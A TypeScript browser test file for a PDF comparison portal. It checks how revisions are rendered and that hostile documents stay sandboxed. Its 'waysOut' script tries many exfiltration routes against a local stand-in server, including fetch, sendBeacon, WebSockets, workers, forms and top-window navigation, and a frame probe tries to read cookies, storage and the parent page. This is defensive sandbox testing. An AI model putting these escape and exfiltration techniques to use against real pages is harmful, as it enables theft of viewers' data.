/**
 * Tests pages of documents in the browser: their rendering, and the harmlessness of documents that attack their viewer.
 */
import { createServer, type IncomingMessage, type Server, type ServerResponse } from 'node:http';
import { once } from 'node:events';
import { mkdtemp, readFile, rm } from 'node:fs/promises';
import type { AddressInfo } from 'node:net';
import { tmpdir } from 'node:os';
import { join, resolve } from 'node:path';
import { type Browser, chromium, type Frame, type Page } from 'playwright-core';
import { build, type Plugin } from 'vite';
import { afterAll, beforeAll, beforeEach, describe, expect, test, vi } from 'vitest';
import { type BuiltPages, readBuiltPages } from '#api/pages/built-pages.ts';
import { DEFAULT_OPTIONS } from '#domain/pipeline.ts';
import { normalize } from '#engine/normalize.ts';
import { FRAME_POLICY, PAGE_POLICY } from '#api/pages/content-security-policy.ts';
import {
  callsHome,
  hugeImage,
  hugePage,
  millionPages,
  neverDrawn,
  ribbon,
} from '#test/support/builders/hostile-pages.ts';
import { helloPage } from '#test/support/builders/pdf.ts';
import { standardFonts } from '#test/support/builders/standard-fonts.ts';
import { sha256 } from '#test/support/api.ts';
import { findChromium } from '#test/support/chromium.ts';
import { requires } from '#test/support/requires.ts';

const PORTAL = resolve(import.meta.dirname, '../../portal');
const FIXTURES = resolve(import.meta.dirname, '../../fixtures/pdf');

/** A page with only the tested part of the passport, for the submission in its fragment. */
const HOST = `
  import { createElement, useState } from 'react';
  import { createRoot } from 'react-dom/client';
  import { QueryClient, QueryClientProvider } from '@tanstack/react-query';
  import { UiProvider } from '${PORTAL}/ui/provider.tsx';
  import { BeforeAndAfter } from '${PORTAL}/passport/pages/before-and-after.tsx';

  const { submission, revisions } = JSON.parse(decodeURIComponent(location.hash.slice(1)));

  function Host() {
    const [initial, onChange] = useState({});
    return createElement(BeforeAndAfter, { submission, revisions, initial, onChange });
  }

  const client = createElement(QueryClientProvider, { client: new QueryClient() }, createElement(Host));
  createRoot(document.querySelector('main')).render(createElement(UiProvider, null, client));
`;
const HOST_NAME = 'host-of-the-test';
const host: Plugin = {
  name: 'host',
  resolveId: (id) => (id === HOST_NAME ? id : null),
  load: (id) => (id === HOST_NAME ? HOST : null),
};

/** A browser with frames and workers is slow on a small computer with other work. */
const PATIENCE_MS = 90_000;
vi.setConfig({ testTimeout: 2 * PATIENCE_MS });

interface State {
  readonly number: number;
  readonly endByte: number;
}

let folder: string;
let pages: BuiltPages;
let service: Server;
let origin: string;
let browser: Browser;
/** The target of the documents' requests, which must get none. */
let elsewhere: Server;
let address: string;
let heard: string[] = [];
/** The canonical form of the document with the standard fonts. */
let canonical: Uint8Array = new Uint8Array();
let originals: Readonly<Record<string, Uint8Array>> = {};

beforeAll(async () => {
  folder = await mkdtemp(join(tmpdir(), 'fixpoint-pages-'));
  await build({
    configFile: join(PORTAL, 'vite.config.ts'),
    logLevel: 'error',
    plugins: [host],
    build: {
      outDir: folder,
      // Beside the pages of the portal.
      rolldownOptions: { input: { [HOST_NAME]: HOST_NAME } },
    },
  });
  pages = readBuiltPages(folder);
  service = await listening(serve);
  origin = `http://127.0.0.1:${portOf(service)}`;
  elsewhere = await listening((request, response) => void response.end(heard.push(request.url ?? '')));
  elsewhere.on('connection', () => heard.push('a connection'));
  address = `http://127.0.0.1:${portOf(elsewhere)}`;
  originals = {
    forged: new Uint8Array(await readFile(join(FIXTURES, 'isa-1-full-update.pdf'))),
    locked: new Uint8Array(await readFile(join(FIXTURES, 'aes-256-user.pdf'))),
    contract: new Uint8Array(await readFile(join(FIXTURES, '../demo/contract-changed-after-signing.pdf'))),
    damaged: Buffer.from('This is no PDF.'),
    callsHome: callsHome(address),
    hugeImage: hugeImage(),
    hugePage: hugePage(),
    ribbon: ribbon(),
    neverDrawn: neverDrawn(),
    millionPages: millionPages(),
    standardFonts: standardFonts(),
  };
  canonical = (await normalize(standardFonts(), DEFAULT_OPTIONS)).bytes ?? canonical;
  browser = await chromium.launch({ executablePath: findChromium() ?? '', args: ['--no-sandbox'] });
}, PATIENCE_MS);

afterAll(async () => {
  await browser?.close();
  for (const server of [service, elsewhere]) {
    server?.close();
    server?.closeAllConnections();
  }
  await rm(folder, { recursive: true, force: true });
});

beforeEach(() => {
  heard = [];
});

async function listening(handle: (request: IncomingMessage, response: ServerResponse) => void): Promise<Server> {
  const server = createServer(handle).listen(0, '127.0.0.1');
  await once(server, 'listening');
  return server;
}

function portOf(server: Server): number {
  return (server.address() as AddressInfo).port;
}

/** Serves as the API does, with its policies. */
function serve(request: IncomingMessage, response: ServerResponse): void {
  const path = (request.url ?? '').replace(/^\//, '');
  const [, id] = /^api\/submissions\/(\w+)\/original$/.exec(path) ?? [];
  const asset = pages.get(path);
  if (path === 'portal/') send(response, 'text/html', htmlOfHost(), PAGE_POLICY);
  else if (path === 'portal/frame.html') send(response, 'text/html', asset?.bytes ?? '', FRAME_POLICY);
  else if (asset) send(response, asset.type, asset.bytes, PAGE_POLICY);
  else if (id !== undefined) send(response, 'application/pdf', originals[id] ?? '', 'sandbox');
  else if (path === 'api/artifacts/standardFonts') send(response, 'application/pdf', canonical, 'sandbox');
  else if (path.startsWith('api/artifacts/')) send(response, 'application/pdf', helloPage('All is well'), 'sandbox');
  else if (path === 'api/auth/refresh')
    send(response, 'application/json', '{"access_token":"x","user":{"id":"1"}}', 'sandbox');
  else response.writeHead(404).end();
}

function send(response: ServerResponse, type: string, body: string | Uint8Array, policy: string): void {
  const headers = { 'Content-Type': type, 'Content-Security-Policy': policy, 'Access-Control-Allow-Origin': '*' };
  response.writeHead(200, headers).end(body);
}

function htmlOfHost(): string {
  const styles = [...pages.keys()].filter((name) => name.endsWith('.css'));
  const script = [...pages.keys()].find((name) => name.includes(HOST_NAME)) ?? '';
  const links = styles.map((name) => `<link rel="stylesheet" href="/${name}">`).join('');
  return `<!doctype html><html lang="en"><head><title>Host</title><link rel="icon" href="data:,">${links}</head>
    <body><main></main><script type="module" src="/${script}"></script></body></html>`;
}

interface Looking {
  readonly page: Page;
  readonly requests: string[];
  readonly complaints: string[];
}

/** Opens a document: its original beside a harmless canonical form, or its revisions. */
async function look(id: string, revisions: readonly State[] = []): Promise<Looking> {
  // A member has signed in before, so the page does not require a sign-in.
  const origins = [{ origin, localStorage: [{ name: 'fixpoint-signed-in', value: 'yes' }] }];
  const context = await browser.newContext({
    viewport: { width: 1280, height: 900 },
    storageState: { cookies: [], origins },
  });
  context.setDefaultTimeout(PATIENCE_MS);
  const page = await context.newPage();
  const looking: Looking = { page, requests: [], complaints: [] };
  context.on('request', (request) => looking.requests.push(request.url()));
  context.on('page', () => looking.complaints.push('a window'));
  page.on('console', (message) => looking.complaints.push(message.text()));
  page.on('pageerror', (error) => looking.complaints.push(error.message));
  page.on('dialog', () => looking.complaints.push('a dialog'));
  const submission = {
    submissionId: id,
    normalized: revisions.length > 0 ? null : { sha256: id === 'standardFonts' ? id : 'harmless' },
    security: {},
    warnings: [],
    links: { original: 'kept' },
  };
  const signatures = [{ revision: 2, fieldName: 'Signature1', isTimestamp: false }];
  const timeline = { count: revisions.length, revisions, signatures, trailing: null };
  const facts = { submission, revisions: revisions.length > 0 ? timeline : null };
  await page.goto(`${origin}/portal/#${encodeURIComponent(JSON.stringify(facts))}`);
  return looking;
}

/** The bytes up to each end of file. */
function revisionsOf(bytes: Uint8Array): readonly State[] {
  const ends = [
    ...Buffer.from(bytes)
      .toString('latin1')
      .matchAll(/%%EOF\s*/g),
  ];
  return ends.map(({ index, 0: end }, at) => ({ number: at + 1, endByte: index + end.length }));
}

const CANVASES = '.fx-page canvas';
const canvases = (page: Page) => page.locator(CANVASES);

/** A summary of the left picture, without the boxes over it, which appear after the comparison. */
async function drawnOnTheLeft(page: Page): Promise<string> {
  return sha256(Buffer.from(await page.evaluate<string>(`document.querySelector('${CANVASES}').toDataURL()`)));
}

/** The number of dark pixels of each enlarged place. */
function inkOfCrops(page: Page): Promise<number[]> {
  return page.evaluate<number[]>(`[...document.querySelectorAll('.fx-page-crops canvas')].map((canvas) => {
    const { data } = canvas.getContext('2d').getImageData(0, 0, canvas.width, canvas.height);
    return data.filter((value, index) => index % 4 === 0 && value < 128).length;
  })`);
}

/** The longest time in milliseconds in which the watched page did not answer. */
function longestSilence(page: Page): Promise<number> {
  return page.evaluate<number>(`(async () => {
    let [longest, last] = [0, performance.now()];
    const end = last + 2_000;
    while (performance.now() < end) {
      await new Promise((resolve) => setTimeout(resolve, 0));
      longest = Math.max(longest, performance.now() - last);
      last = performance.now();
    }
    return longest;
  })()`);
}

describe('before and after', requires('Chromium', findChromium() !== null), () => {
  test('a forged document is told in words, in boxes and in pictures', async () => {
    const { page, complaints } = await look('forged', revisionsOf(originals['forged'] ?? Buffer.of()));
    await page.getByText('1 page differs').waitFor();
    await page.getByText('FORGED AMOUNT').waitFor();
    expect(await page.locator('.fx-page-changes').innerText()).toContain(
      '“Page 1 harbour” became “FORGED AMOUNT copper”.',
    );
    expect(await page.locator('.fx-page-box').count()).toBeGreaterThanOrEqual(2);
    expect(await canvases(page).count()).toBe(2);
    expect(await page.locator('.fx-page-sides figcaption').allInnerTexts()).toEqual([
      'Before: Revision 2, signed',
      'After: Revision 3, as it is now',
    ]);
    expect(complaints).toEqual([]);
    await page.context().close();
  });

  test('the changed amount is enlarged in both states, with nothing over it', async () => {
    const { page } = await look('contract', revisionsOf(originals['contract'] ?? Buffer.of()));
    const crops = page.getByRole('region', { name: 'Changed places on page 1' });
    await crops.waitFor();
    expect(await crops.locator('figcaption').allInnerTexts()).toEqual([
      'Before: Revision 2, signed',
      'After: Revision 3, as it is now',
    ]);
    expect(await crops.locator('.fx-page-box').count()).toBe(0);
    const [inkBefore = 0, inkAfter = 0] = await inkOfCrops(page);
    // A further digit has more ink.
    expect(inkBefore).toBeGreaterThan(0);
    expect(inkAfter).toBeGreaterThan(inkBefore);
    await page.context().close();
  });

  test('a document that names fonts without having them looks the same once it has them', async () => {
    const { page } = await look('standardFonts');
    await page.getByText('No page differs').waitFor();
    await page.getByText('Words and appearance of this page are the same in both.').waitFor();
    expect(await page.locator('.fx-page-box').count()).toBe(0);
    await page.context().close();
  });

  test('the keyboard does everything', async () => {
    const { page } = await look('forged', revisionsOf(originals['forged'] ?? Buffer.of()));
    const boxes = page.locator('.fx-page-box');
    const press = (key: string) => page.locator('.fx-page-pane').first().press(key);
    await boxes.first().waitFor();
    await press('b');
    expect(await boxes.count()).toBe(0);
    await press('+');
    await page.getByText('150 %', { exact: true }).waitFor();
    await press('0');
    await page.getByText('100 %', { exact: true }).waitFor();
    await press('2');
    const slider = page.getByRole('slider');
    expect(await slider.getAttribute('aria-valuetext')).toBe('50 % of Revision 2, signed');
    // The slider handles these keys, and the page does not change.
    await slider.press('ArrowRight');
    expect(await slider.getAttribute('aria-valuetext')).toBe('51 % of Revision 2, signed');
    await press('3');
    await page.getByRole('button', { name: 'Pause' }).click();
    expect(await canvases(page).count()).toBe(2);
    await page.context().close();
  });

  test('a document that cannot be drawn is said to be one', async () => {
    const locked = await look('locked');
    await locked.page.getByText('As it was sent: nothing to show').waitFor();
    await locked.page.getByText('opens only with a password').first().waitFor();
    const damaged = await look('damaged');
    await damaged.page.getByText('too damaged to be drawn').first().waitFor();
    // The other document is visible nevertheless.
    await canvases(damaged.page).first().waitFor();
    await Promise.all([locked.page.context().close(), damaged.page.context().close()]);
  });
});

describe('a hostile original', requires('Chromium', findChromium() !== null), () => {
  test.each(['callsHome', 'hugePage', 'ribbon'])('is drawn, and that is all that it does: %s', async (id) => {
    const { page, requests, complaints } = await look(id);
    await canvases(page).nth(1).waitFor();
    await page.getByText('1 page differs').waitFor();
    await expectHarmless({ page, requests, complaints });
  });

  test.each(['hugeImage', 'neverDrawn'])(
    'that takes too much is stopped, or drawn in time: %s',
    async (id) => {
      const { page, requests, complaints } = await look(id);
      await canvases(page).last().waitFor();
      await expectHarmless({ page, requests, complaints });
      const isStopped = page.getByText('took too long and was stopped').first();
      await canvases(page).nth(1).or(isStopped).first().waitFor();
    },
    2 * PATIENCE_MS,
  );

  test('of a million pages is compared in part, and leaves the page usable', async () => {
    const { page, requests, complaints } = await look('millionPages');
    await page
      .getByText('Only the first 2,000 pages are compared')
      .or(page.getByText('took too long'))
      .first()
      .waitFor();
    await expectHarmless({ page, requests, complaints });
  });

  /** There are only our own requests, no script and no complaint, and the page still answers. */
  async function expectHarmless({ page, requests, complaints }: Looking): Promise<void> {
    // A page that hangs never answers, while a busy machine pauses it for a second or two.
    expect(await longestSilence(page)).toBeLessThan(5_000);
    expect(requests.filter((url) => !url.startsWith(`${origin}/`) && !/^(blob|data):/.test(url))).toEqual([]);
    expect(complaints).toEqual([]);
    expect(heard).toEqual([]);
  }
});

describe('the frame', requires('Chromium', findChromium() !== null), () => {
  /** The worst case of a document: its own script runs in the frame. */
  async function taken(): Promise<Looking & { readonly frame: Frame }> {
    const looking = await look('callsHome');
    await canvases(looking.page).nth(1).waitFor();
    const frame = looking.page.frames().find((one) => one.url().endsWith('/frame.html'));
    if (!frame) throw new Error('There is no frame.');
    return { ...looking, frame };
  }

  test('has no origin, and so nothing that the portal has', async () => {
    const { page, frame } = await taken();
    const found = await frame.evaluate(`(() => {
      const attempt = (reach) => {
        try {
          return String(reach());
        } catch (error) {
          return error.name;
        }
      };
      return {
        origin: window.origin,
        parent: attempt(() => window.parent.document.title),
        storage: attempt(() => window.localStorage.length),
        cookies: attempt(() => document.cookie),
        top: attempt(() => window.top.location.href),
      };
    })()`);
    expect(found).toEqual({
      origin: 'null',
      parent: 'SecurityError',
      storage: 'SecurityError',
      cookies: 'SecurityError',
      top: 'SecurityError',
    });
    await page.context().close();
  });

  test('has no way out', async () => {
    const { page, frame } = await taken();
    await frame.evaluate(waysOut(address));
    // The time that the slowest of them would need.
    await page.waitForTimeout(2_000);
    // Chromium connects before it checks the policy, and then sends no request.
    expect(heard.filter((one) => one !== 'a connection')).toEqual([]);
    expect(page.frames().map((one) => new URL(one.url()).origin)).not.toContain(new URL(address).origin);
    expect(page.context().pages()).toHaveLength(1);
    await page.context().close();
  });

  test('that says what it was not asked is ended, and what it says is not shown', async () => {
    const { page, frame } = await taken();
    // No request is open, so nothing else is drawn.
    await page.getByText('1 page differs').waitFor();
    await page.locator('.fx-page-box').first().waitFor();
    const before = await drawnOnTheLeft(page);
    await frame.evaluate(`window.parent.postMessage(
      { kind: 'drawn', id: 1, width: 2, height: 2, pixels: new Uint8Array(16).fill(7).buffer }, '*'
    )`);
    await expect.poll(() => page.frames().includes(frame), { timeout: PATIENCE_MS }).toBe(false);
    expect(await drawnOnTheLeft(page)).toEqual(before);
    await page.context().close();
  });
});

/** A script that tries every way from one page to another, except for those that nothing prevents (docs/portal.md). */
function waysOut(to: string): string {
  return `(() => {
    const to = ${JSON.stringify(to)};
    const put = (tag, attributes) => document.body.append(Object.assign(document.createElement(tag), attributes));
    const form = () => {
      const made = Object.assign(document.createElement('form'), { action: to + '/form', method: 'post' });
      document.body.append(made);
      made.submit();
    };
    const ways = [
      () => fetch(to + '/fetch', { mode: 'no-cors', method: 'POST', body: 'secret' }),
      () => navigator.sendBeacon(to + '/beacon', 'secret'),
      () => new EventSource(to + '/events'),
      () => new WebSocket(to.replace('http', 'ws') + '/socket'),
      () => import(to + '/script.js'),
      () => new Worker(to + '/worker.js'),
      () => new FontFace('f', 'url(' + to + '/font)').load(),
      () => window.open(to + '/window'),
      () => put('img', { src: to + '/image' }),
      () => put('script', { src: to + '/script' }),
      () => put('link', { rel: 'stylesheet', href: to + '/style' }),
      () => put('link', { rel: 'prefetch', href: to + '/prefetch' }),
      () => put('iframe', { src: to + '/frame' }),
      () => put('object', { data: to + '/object' }),
      () => put('video', { src: to + '/film' }),
      form,
      () => window.top.location.assign(to + '/top'),
      () => setTimeout(() => location.assign(to + '/self'), 1_000),
    ];
    for (const way of ways) {
      try {
        Promise.resolve(way()).catch(() => {});
      } catch {
        // It is refused, as it should be.
      }
    }
  })()`;
}
